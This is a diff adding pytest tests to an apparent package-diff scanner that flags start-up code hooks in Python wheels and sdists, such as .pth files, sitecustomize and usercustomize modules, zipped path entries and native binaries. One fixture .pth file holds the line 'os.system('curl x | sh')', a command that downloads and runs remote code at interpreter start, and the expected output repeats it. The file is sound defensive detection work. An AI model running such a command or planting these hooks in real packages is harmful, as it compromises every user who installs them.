@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import io
+import zipfile
 from collections.abc import Sequence
 from pathlib import Path
 
@@ -348,6 +350,94 @@ def test_start_up_modules_scripts_and_sourceless_bytecode_in_a_wheel(tmp_path: P
             "demo/helper.pyc",
             "bytecode without its source: Python imports it, it is not checked",
         ),
+    ]
+
+
+def _zip_holding(names: dict[str, str]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as nested:
+        for name, text in names.items():
+            nested.writestr(name, text)
+    return buffer.getvalue()
+
+
+def test_start_up_code_without_an_import_line_in_a_wheel(tmp_path: Path) -> None:
+    """site imports sitecustomize however it is found: a package, an extension module, a
+    folder or a zip a .pth path line puts on sys.path; a .pth in .data's site-packages is
+    read at start-up as one at the root."""
+    new: Tree = {
+        "sitecustomize/__init__.py": "import demo\n",
+        "usercustomize.cpython-311-x86_64-linux-gnu.so": ELF,
+        "demo-1.1.data/data/lib/python3.11/site-packages/boot.pth": "import demo._boot\n",
+        "paths.pth": "# vendored\ndemo/_vendor\ndemo/_plain\n",
+        "demo/_vendor/sitecustomize.py": "import os\n",
+        "demo/_plain/helper.py": "x = 1\n",
+        "zipped.pth": "demo/_data.zip\n",
+        "demo/_data.zip": _zip_holding({"sitecustomize.py": "import os\n"}),
+        "plainzip.pth": "demo/_lib.zip\n",
+        "demo/_lib.zip": _zip_holding({"lib.py": "x = 1\n"}),
+        "two.pth": "import _compat\nimport os; os.system('curl x | sh')\n",
+    }
+    on_path = "puts start-up code on sys.path"
+    every_start = "at every interpreter start"
+    assert find(tmp_path, {}, new, "wheel") == [
+        (
+            "pth",
+            "demo-1.1.data/data/lib/python3.11/site-packages/boot.pth",
+            "new .pth file runs code at start-up: import demo._boot",
+        ),
+        (
+            "pth",
+            "paths.pth",
+            f"new .pth file {on_path}: demo/_vendor (site imports sitecustomize.py from there "
+            f"{every_start})",
+        ),
+        (
+            "pth",
+            "sitecustomize/__init__.py",
+            f"sitecustomize/__init__.py added: site imports it {every_start}",
+        ),
+        (
+            "pth",
+            "two.pth",
+            "new .pth file runs code at start-up: import os; os.system('curl x | sh') "
+            "(and 1 more import lines)",
+        ),
+        (
+            "pth",
+            "usercustomize.cpython-311-x86_64-linux-gnu.so",
+            f"usercustomize.cpython-311-x86_64-linux-gnu.so added: site imports it {every_start}",
+        ),
+        (
+            "pth",
+            "zipped.pth",
+            f"new .pth file {on_path}: demo/_data.zip (site imports sitecustomize.py from "
+            f"there {every_start})",
+        ),
+        (
+            "binary",
+            "usercustomize.cpython-311-x86_64-linux-gnu.so",
+            "new native binary (ELF, 164 bytes)",
+        ),
+    ]
+
+
+def test_start_up_modules_in_an_sdist_source_root(tmp_path: Path) -> None:
+    """``package_dir = {"": "lib"}`` installs lib/sitecustomize.py at the top; one inside a
+    package or a test folder is not installed there."""
+    old = {"lib/demo/__init__.py": "", "lib/sitecustomize.py": "x = 1\n"}
+    new = {
+        "lib/demo/__init__.py": "",
+        "lib/sitecustomize.py": "import demo\n",
+        "lib/demo/sitecustomize.py": "import demo\n",
+        "tests/sitecustomize.py": "import demo\n",
+    }
+    assert find(tmp_path, old, new) == [
+        (
+            "pth",
+            "lib/sitecustomize.py",
+            "sitecustomize.py changed: site imports it at every interpreter start",
+        )
     ]
 
 
